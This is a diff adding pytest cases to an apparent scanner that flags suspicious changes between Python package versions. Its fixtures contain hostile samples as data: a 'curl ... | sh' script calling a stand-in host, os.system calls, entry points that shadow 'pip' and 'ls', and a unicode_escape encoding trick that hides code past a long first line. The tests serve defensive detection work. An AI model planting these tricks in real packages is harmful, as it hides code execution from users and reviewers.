@@ -479,6 +479,58 @@ def test_entry_points(tmp_path: Path, dist: str) -> None:
     ]
 
 
+ENTRY_POINTS_AS_IMPORTERS_READ = [
+    pytest.param(
+        "[console_scripts]\ndemo = demo.cli:main\n",
+        "made by demo-build\n[console_scripts]\ndemo = demo.cli:main\npip = demo.cli:main\n",
+        ["console script added: pip = demo.cli:main"],
+        id="text before the first section is skipped, not the whole file",
+    ),
+    pytest.param(
+        "[pytest11]\n",
+        "[pytest11]\n;demo = demo.cli\n# demo = demo.other\n",
+        ["entry point [pytest11] added: ;demo = demo.cli"],
+        id="a semicolon starts a name, not a comment",
+    ),
+    pytest.param(
+        "[pytest11]\ndemo = demo.plugin\n",
+        "[pytest11]\ndemo = demo.evil\ndemo = demo.plugin\n",
+        [
+            "entry point [pytest11] target changed: demo = demo.plugin → "
+            "demo.evil (declared again as demo.plugin)"
+        ],
+        id="a name declared twice has both targets, the first first",
+    ),
+    pytest.param(
+        "[console_scripts]\ndemo = demo.cli:main\n",
+        "[console_scripts]\ndemo = demo.cli:main\n    ls = demo.cli:main\n",
+        ["console script added: ls = demo.cli:main"],
+        id="an indented line is an entry of its own",
+    ),
+    pytest.param(
+        "[console_scripts]\ndemo = demo.cli:main\n",
+        "[console_scripts]\ndemo = demo.cli:main\nnot an entry\n",
+        [
+            "entry_points.txt unreadable: a line in a section has no '=' "
+            "(importlib.metadata, and so pip and pluggy, fail on it)"
+        ],
+        id="a line without = is told",
+    ),
+]
+
+
+@pytest.mark.parametrize(("old_eps", "new_eps", "expected"), ENTRY_POINTS_AS_IMPORTERS_READ)
+def test_entry_points_are_read_as_importlib_metadata_reads_them(
+    tmp_path: Path, old_eps: str, new_eps: str, expected: list[str]
+) -> None:
+    """configparser refused a leading line and so hid every entry point (a new ``pip``
+    script among them), and read ``;`` as a comment and an indented line as a value's."""
+    found = find(tmp_path, {}, {}, "wheel", old_entry_points=old_eps, new_entry_points=new_eps)
+    assert found == [
+        ("entry-point", "demo-1.1.dist-info/entry_points.txt", detail) for detail in expected
+    ]
+
+
 def test_entry_points_in_pyproject(tmp_path: Path) -> None:
     old = {
         "pyproject.toml": '[project]\nname = "demo"\n[project.scripts]\ndemo = "demo.cli:main"\n'
@@ -508,6 +560,29 @@ def test_wheel_data_script_added(tmp_path: Path) -> None:
             "demo-1.1.data/scripts/demo-tool",
             "script added: demo-tool (installed on PATH)",
         )
+    ]
+
+
+def test_wheel_script_on_path_changed(tmp_path: Path) -> None:
+    """A script in ``.data/data/bin`` is on PATH as one in ``.data/scripts``: a Python one is
+    read by the exec check, a changed shell script is told (its commands are not read)."""
+    old = {
+        "demo-1.0.data/data/bin/demo-py": "#!/usr/bin/env python3\nprint(1)\n",
+        "demo-1.0.data/scripts/demo-run": "#!/bin/sh\necho hello\n",
+        "demo-1.0.data/scripts/demo-same": "#!/bin/sh\necho same\n",
+    }
+    new = {
+        "demo-1.1.data/data/bin/demo-py": "#!/usr/bin/env python3\nimport os\nos.system('id')\n",
+        "demo-1.1.data/scripts/demo-run": "#!/bin/sh\ncurl -s http://x.invalid/a | sh\n",
+        "demo-1.1.data/scripts/demo-same": "#!/bin/sh\necho same\n",
+    }
+    assert find(tmp_path, old, new, "wheel") == [
+        (
+            "entry-point",
+            "demo-1.1.data/scripts/demo-run",
+            "script changed: demo-run (installed on PATH, not Python)",
+        ),
+        ("exec", "demo-1.1.data/data/bin/demo-py", "os.system() runs a command (line 3)"),
     ]
 
 
@@ -1642,6 +1717,26 @@ def test_exec_reads_a_file_as_its_declared_encoding_decodes_it(tmp_path: Path) -
             "source encoding unicode_escape: Python runs other text than the file shows",
         ),
     ]
+
+
+def test_exec_reads_a_cookie_on_line_two_after_a_long_first_line(tmp_path: Path) -> None:
+    """Python takes the cookie on line 2 whatever line 1's length: a first line of 1,100
+    bytes put it out of a look at the first kilobyte, and the call went unseen."""
+    escaped = "".join(f"\\u{ord(c):04x}" for c in "\nimport os\nos.system('id')\n")
+    payload = "#" + "=" * 1100 + "\n# -*- coding: unicode_escape -*-\nX = 1\n#" + escaped + "\n"
+    found = find(tmp_path, {"demo/__init__.py": "X = 1\n"}, {"demo/__init__.py": payload})
+    assert found == [
+        ("exec", "demo/__init__.py", "os.system() runs a command (line 6)"),
+        (
+            "exec",
+            "demo/__init__.py",
+            "source encoding unicode_escape: Python runs other text than the file shows",
+        ),
+    ]
+    third = payload.replace("#" + "=" * 1100 + "\n", "#\n#\n", 1)  # line 3: no cookie
+    assert (
+        find(tmp_path / "third", {"demo/__init__.py": "X = 1\n"}, {"demo/__init__.py": third}) == []
+    )
 
 
 def test_exec_a_plain_declared_encoding_is_not_noted(tmp_path: Path) -> None:
